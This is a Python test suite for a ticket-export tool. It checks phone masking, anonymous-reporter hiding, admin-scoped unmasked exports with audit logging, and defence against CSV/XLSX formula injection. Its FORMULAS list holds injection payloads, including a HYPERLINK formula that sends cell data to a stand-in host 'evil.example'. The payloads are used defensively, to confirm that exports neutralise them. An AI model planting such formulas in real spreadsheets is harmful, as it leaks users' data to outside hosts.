"""Ticket export: phones masked and anonymous reporters hidden unless an admin asks; an admin's
export is bounded by the nodes of their admin grants and an unmasked one is audited; text that
a spreadsheet would take for a formula is neutralised in CSV and XLSX."""

from __future__ import annotations

import argparse
import csv
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete, select, update
from sqlalchemy.exc import DBAPIError

from bot.cli_reports import run
from services.errors import DomainError
from services.export import AUDIT_ACTION, ExportRow, authorize, export_tickets
from services.periods import parse_period
from storage.models import Account, AuditLog, Role, RoleGrant, Source
from storage.uow import UowFactory
from tests.storage.ticket_seed import add_ticket, demo_org

NOV = datetime(2026, 11, 10, 2, tzinfo=UTC)
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tTAB", "\rCR"]


async def seed(uow_factory: UowFactory) -> dict[str, int]:
    ids = await demo_org(uow_factory)
    async with uow_factory() as uow:
        people = {}
        for name, phone in (
            ("王秀兰", "13912345678"),
            ("李建国", "13698765432"),
            ("林涛", None),
            ("周强", None),
            ("马丽", None),
        ):
            acc = Account(display_name=name, phone=phone, created_at=uow.clock.now())
            uow.accounts.add(acc)
            await uow.flush()
            assert acc.id is not None
            people[name] = acc.id
        uow.accounts.add(RoleGrant(account_id=people["林涛"], role=Role.admin, org_id=ids["PG"]))
        uow.accounts.add(RoleGrant(account_id=people["周强"], role=Role.manager, org_id=ids["YJWY"]))
        # an admin of one community (桃园社区: the compound TYXC only)
        uow.accounts.add(RoleGrant(account_id=people["马丽"], role=Role.admin, org_id=ids["BH-TY"]))
        await add_ticket(uow, "XGY", NOV, reporter_id=people["王秀兰"], description="named")
        await add_ticket(
            uow, "LHY", NOV, reporter_id=people["李建国"], anonymous=True, description="anonymous"
        )
        await add_ticket(
            uow,
            "JGJY",
            NOV,
            source=Source.hotline,
            caller_phone="13812341234",
            external_ref="H-1",
            description="hotline",
            rating=3,
        )
        await add_ticket(uow, "TYXC", NOV, reporter_id=people["李建国"], anonymous=True, description="tyxc")
        await add_ticket(uow, "FJY", datetime(2026, 9, 1, tzinfo=UTC), description="old")
        await uow.commit()
    return {**ids, **people}


async def rows(
    uow_factory: UowFactory, viewer: int | None = None, unmasked: bool = False
) -> dict[str, ExportRow]:
    start, end = parse_period("2026Q4").bounds()
    async with uow_factory() as uow:
        grant = await authorize(uow, start, end, as_account=viewer, unmasked=unmasked)
        await uow.commit()
        return {r.description: r async for r in export_tickets(uow, start, end, grant)}


async def audit_rows(uow_factory: UowFactory) -> list[AuditLog]:
    async with uow_factory() as uow:
        return list((await uow.session.execute(select(AuditLog).order_by(AuditLog.id))).scalars().all())


async def test_masked_by_default(uow_factory: UowFactory) -> None:
    await seed(uow_factory)
    out = await rows(uow_factory)
    assert sorted(out) == ["anonymous", "hotline", "named", "tyxc"]  # "old" is in Q3
    assert (out["named"].reporter, out["named"].phone) == ("王秀兰", "13******678")
    assert (out["anonymous"].reporter_kind, out["anonymous"].reporter, out["anonymous"].phone) == (
        "anonymous",
        None,
        None,
    )
    h = out["hotline"]
    assert (h.reporter_kind, h.phone, h.external_ref, h.satisfaction) == (
        "hotline",
        "13******234",
        "H-1",
        "basic",
    )
    assert h.compound_code == "JGJY" and h.received_at == NOV
    assert await audit_rows(uow_factory) == []  # masked exports are not privileged reads


async def test_unmasked_is_bounded_by_the_admin_grant_and_audited(uow_factory: UowFactory) -> None:
    ids = await seed(uow_factory)
    district = await rows(uow_factory, ids["林涛"], unmasked=True)
    assert sorted(district) == ["anonymous", "hotline", "named", "tyxc"]
    assert (district["anonymous"].reporter, district["anonymous"].phone) == ("李建国", "13698765432")
    assert district["hotline"].phone == "13812341234"
    community = await rows(uow_factory, ids["马丽"], unmasked=True)
    assert sorted(community) == ["tyxc"]  # not the whole district
    assert (community["tyxc"].reporter, community["tyxc"].phone) == ("李建国", "13698765432")
    masked = await rows(uow_factory, ids["马丽"])  # --as without --unmasked: bounded and masked
    assert sorted(masked) == ["tyxc"] and masked["tyxc"].phone is None
    log = await audit_rows(uow_factory)
    assert [(a.actor_id, a.action, a.params["orgs"], a.params["compounds"]) for a in log] == [
        (ids["林涛"], AUDIT_ACTION, ["PG"], 5),
        (ids["马丽"], AUDIT_ACTION, ["BH-TY"], 1),
    ]
    assert log[0].params["from"] == parse_period("2026Q4").bounds()[0].isoformat()


async def test_refused_exports_store_nothing(uow_factory: UowFactory) -> None:
    ids = await seed(uow_factory)
    for viewer in (ids["周强"], ids["王秀兰"], 99999):
        for unmasked in (True, False):
            with pytest.raises(DomainError) as err:
                await rows(uow_factory, viewer, unmasked)
            assert err.value.code == "export_not_admin"
    with pytest.raises(DomainError) as err2:
        await rows(uow_factory, None, unmasked=True)
    assert err2.value.code == "export_needs_admin"
    assert await audit_rows(uow_factory) == []


async def test_audit_rows_cannot_be_changed_or_removed(uow_factory: UowFactory) -> None:
    ids = await seed(uow_factory)
    await rows(uow_factory, ids["林涛"], unmasked=True)
    for stmt in (update(AuditLog).values(action="nothing"), delete(AuditLog)):
        async with uow_factory() as uow:
            with pytest.raises(DBAPIError):
                await uow.session.execute(stmt)
    assert [a.action for a in await audit_rows(uow_factory)] == [AUDIT_ACTION]


def export_args(out: Path, fmt: str = "csv", **kw: Any) -> argparse.Namespace:
    base: dict[str, Any] = dict(
        command="export",
        export_action="tickets",
        period=None,
        date_from="2026-10-01",
        date_to="2026-12-31",
        format=fmt,
        output=out,
        unmasked=False,
        as_account=None,
    )
    return argparse.Namespace(**{**base, **kw})


async def test_cli_export_csv_and_refusal(uow_factory: UowFactory, tmp_path: Path) -> None:
    ids = await seed(uow_factory)
    out = tmp_path / "t.csv"
    lines: list[str] = []
    args = export_args(out)
    assert await run(args, uow_factory, out=lines.append) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("工单号,受理时间,小区编码,小区,类别")
    assert "13******678" in text and "13912345678" not in text and "李建国" not in text
    assert "（已隐藏）" in text and "12345 热线" in text and "2026-11-10 10:00" in text
    assert lines[0] == f"已导出 4 件工单到 {out}。"
    args.unmasked, args.as_account = True, ids["周强"]
    with pytest.raises(DomainError) as err:
        await run(args, uow_factory, out=lines.append)
    assert err.value.code == "export_not_admin"
    args.as_account = None
    with pytest.raises(DomainError) as err2:
        await run(args, uow_factory, out=lines.append)
    assert err2.value.code == "export_needs_admin"
    args.as_account = ids["马丽"]
    assert await run(args, uow_factory, out=lines.append) == 0
    assert lines[-1] == f"已导出 1 件工单到 {out}。"
    assert "13698765432" in out.read_text(encoding="utf-8-sig")
    log = await audit_rows(uow_factory)
    assert [(a.actor_id, a.params["format"]) for a in log if a.action == AUDIT_ACTION] == [
        (ids["马丽"], "csv")
    ]
    # the two refusals are audited too (issue 10, access)
    assert [(a.actor_id, a.action) for a in log if a.action != AUDIT_ACTION] == [
        (ids["周强"], "refused:export_not_admin"),
        (None, "refused:export_needs_admin"),
    ]


async def test_formula_text_is_neutralised_in_csv_and_xlsx(uow_factory: UowFactory, tmp_path: Path) -> None:
    await demo_org(uow_factory)
    async with uow_factory() as uow:
        for i, text in enumerate(FORMULAS):
            await add_ticket(
                uow,
                "XGY",
                NOV,
                description=text,
                source=Source.hotline,
                external_ref=f"=1+{i}",
                caller_phone="+8613812341234",
            )
        await uow.commit()
    out_csv, out_xlsx = tmp_path / "t.csv", tmp_path / "t.xlsx"
    assert await run(export_args(out_csv), uow_factory, out=lambda _: None) == 0
    assert await run(export_args(out_xlsx, "xlsx"), uow_factory, out=lambda _: None) == 0
    with out_csv.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    head = table[0]
    desc, ref = head.index("诉求内容"), head.index("热线工单编号")
    assert sorted(r[desc] for r in table[1:]) == sorted("'" + f for f in FORMULAS)
    assert sorted(r[ref] for r in table[1:]) == [f"'=1+{i}" for i in range(len(FORMULAS))]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for c in r)
    ws = load_workbook(out_xlsx).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no cell is a formula
    texts = {str(c.value) for c in cells if c.value is not None}
    assert {f.replace("\r", "\n") for f in FORMULAS} <= texts  # shown as typed (XML reads CR as LF)
    assert all(
        c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))
    )
